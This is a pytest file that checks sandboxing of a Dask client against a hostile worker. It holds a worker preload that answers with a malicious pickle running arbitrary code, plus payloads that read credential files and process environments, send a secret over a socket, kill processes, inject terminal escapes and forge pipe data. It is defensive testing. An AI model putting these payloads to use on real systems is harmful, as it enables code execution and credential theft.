"""A worker that answers with code of its own has it run where there is nothing to gain, and loses its connection."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from clients.dask.door import Door
from contracts.errors import HostUnreachable
from contracts.remote import CommandResult
from runner.dask import walls
from runner.dask.making import open_door
from tests.dask_cluster import RESOURCE, DaskCluster, dask_cluster

REPOSITORY = Path(__file__).resolve().parents[4]
SECRET = "the organiser's own"
DATABASE, CREDENTIALS, STATE = "deployment/database.db", ".aws/credentials", "deployment/.rampart/iris/state.json"

# what Dask loads into the worker: a command that is named like a gift is answered with one, any other is run
PRELOAD = """
import pickle

from distributed.protocol import to_serialize


class Gift:
    def __init__(self, code, words):
        self.code, self.words = code, words

    def __reduce__(self):  # whoever unpickles it runs the code, and has what that leaves as `told`
        return eval, ("(exec(code, words), words['told'])[1]", {"code": self.code, "words": self.words})


def dask_setup(worker):
    honest = worker.handlers["run"]

    async def run(comm, **asked):
        words = pickle.loads(asked["args"]) if asked.get("args") else ()
        argv = words[1] if len(words) > 1 and isinstance(words[1], list) else [""]
        if argv[0] != "gift":
            return await honest(comm, **asked)
        return {"status": "OK", "result": to_serialize(Gift(argv[1], {"told": None, "given": argv[2:]}))}

    worker.handlers["run"] = run
"""

LOOKS = """
import json, os, socket
own, environ_of, port, *paths = given
secret = "nothing was found"

def outcome(attempt):
    try:
        return str(attempt())
    except OSError as error:
        return type(error).__name__

def read(path):
    global secret
    with open(path) as file:
        secret = file.read()
    return secret

def sent():
    with socket.create_connection(("127.0.0.1", int(port)), timeout=5) as connection:
        connection.sendall(secret.encode())
    return "sent"

found = {
    "read": [outcome(lambda: read(path)) for path in paths],
    "environment": outcome(lambda: len(open("/proc/%s/environ" % environ_of, "rb").read()) > 0),
    "signalled": outcome(lambda: os.kill(int(environ_of), 0)),
    "opened to write": outcome(lambda: open(own, "a").close()),
    "own environment": sorted(os.environ),
    "sent": outcome(sent),
}
told = {"out": json.dumps(found).encode(), "err": b"", "code": 0}
"""

RAISES = """
try:
    open(given[0]).read()
    found = "found"
except OSError as error:
    found = type(error).__name__
raise RuntimeError("read:\\n\\x1b[2J" + found)
"""

KILLS = """
import os, signal
found = []
for process in (int(given[0]), os.getppid()):
    try:
        os.kill(process, signal.SIGKILL)
        found.append("killed")
    except OSError as error:
        found.append(type(error).__name__)
told = {"out": " ".join(found).encode(), "err": b"", "code": 0}
"""

FORGES = """
import os
for number in range(256):
    try:
        if os.readlink("/proc/self/fd/%d" % number).startswith("pipe:"):
            os.write(number, b"\\xff" * 64)
    except OSError:
        pass
told = {"out": b"", "err": b"", "code": 0}
"""


@dataclass
class Ground:
    """A cluster with one honest and one hostile worker, and a deployment's secrets on the machine of who asks."""

    cluster: DaskCluster
    home: Path
    without_walls: Door
    doors: list[Door] = field(default_factory=list)

    def door(self) -> Door:
        """One with walls, as the product opens it; another one where the last has closed."""
        if not self.doors or not self.doors[-1].is_open:
            self.doors.append(open_door(self.cluster.scheduler))
        return self.doors[-1]

    def gift(self, door: Door, code: str, *given: object) -> CommandResult:
        """What the hostile worker's answer comes to."""
        return door.transport(self.machine("hostile")).run(["gift", code, *map(str, given)], timeout_s=20)

    def machine(self, worker: str) -> str:
        return (self.cluster.home_of(worker) / ".rampart" / "machine").read_text()

    def look(self, door: Door) -> tuple[dict[str, Any], bytes]:
        """What code in Dask's client finds on this machine, and what of that it can send elsewhere."""
        own = REPOSITORY / "clients" / "dask" / "on_worker.py"
        secrets = [self.home / name for name in (DATABASE, CREDENTIALS, STATE)]
        with socket.create_server(("127.0.0.1", 0)) as listener:
            port = listener.getsockname()[1]
            found = json.loads(self.gift(door, LOOKS, own, os.getpid(), port, *secrets).stdout)
            listener.setblocking(False)
            try:
                connection, _ = listener.accept()
            except BlockingIOError:
                return found, b""
            with connection, connection.makefile("rb") as received:
                return found, received.read()


@pytest.fixture(scope="module")
def ground(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ground]:
    if why_not := walls._why_not():
        pytest.skip(f"there can be no walls here: {why_not}")
    home = Path(tempfile.mkdtemp(prefix="rampart-hostile-", dir="/var/tmp"))
    preload = tmp_path_factory.mktemp("preload") / "hostile.py"
    preload.write_text(PRELOAD)
    try:
        for name in (DATABASE, CREDENTIALS, STATE):
            (home / name).parent.mkdir(parents=True, exist_ok=True)
            (home / name).write_text(SECRET)
        with dask_cluster(tmp_path_factory.mktemp("cluster"), workers=0) as cluster:
            cluster.start_worker("honest")
            cluster.start_worker("hostile", options=(*RESOURCE, "--preload", str(preload)))
            made = Ground(cluster, home, Door(cluster.scheduler))
            both = [made.without_walls.hold(key, 60) for key in ("one", "other")]
            assert len({place.result(60) for place in both}) == 2  # until here it is as good as any
            yield made
            for door in (made.without_walls, *made.doors):
                door.close()
    finally:
        shutil.rmtree(home)


def test_without_walls_its_code_has_whatever_we_have(ground: Ground) -> None:
    found, sent = ground.look(ground.without_walls)
    assert found["read"] == [SECRET] * 3
    assert (found["environment"], found["signalled"], found["opened to write"]) == ("True", "None", "None")
    assert (found["sent"], sent) == ("sent", SECRET.encode())


def test_behind_walls_its_code_finds_nothing_and_reaches_nobody(ground: Ground) -> None:
    found, sent = ground.look(ground.door())
    assert found["read"] == ["FileNotFoundError"] * 3
    assert found["environment"] in ("FileNotFoundError", "PermissionError")
    assert found["signalled"] in ("ProcessLookupError", "PermissionError")
    assert found["opened to write"] in ("OSError", "PermissionError")  # a read-only system
    assert set(found["own environment"]) <= {"HOME", "LANG", "PATH", walls.REACHES}
    assert (found["sent"], sent) == ("ConnectionRefusedError", b"")


def test_what_its_code_raises_is_one_line_to_us(ground: Ground) -> None:
    with pytest.raises(HostUnreachable) as caught:
        ground.gift(ground.door(), RAISES, ground.home / CREDENTIALS)
    said = str(caught.value)
    assert said.isprintable()
    assert said.endswith("RuntimeError: read:  [2JFileNotFoundError")


def test_its_code_ends_no_process_of_ours(ground: Ground) -> None:
    with subprocess.Popen(["sleep", "60"]) as victim:
        try:
            said = ground.gift(ground.door(), KILLS, victim.pid).text
            assert victim.poll() is None
        finally:
            victim.kill()
    assert said.split()[0] in ("ProcessLookupError", "PermissionError")


def test_frames_that_its_code_forges_end_its_connection_and_honest_workers_go_on_over_another(ground: Ground) -> None:
    door = ground.door()
    place = door.hold("third", 60)
    with pytest.raises(HostUnreachable, match="its client says what it should not"):
        ground.gift(door, FORGES)
    with pytest.raises(HostUnreachable):
        place.result(20)
    assert not door.is_open
    again = ground.door().transport(ground.machine("honest"))
    assert again.run(["cat"], stdin=b"a submission").stdout == b"a submission"
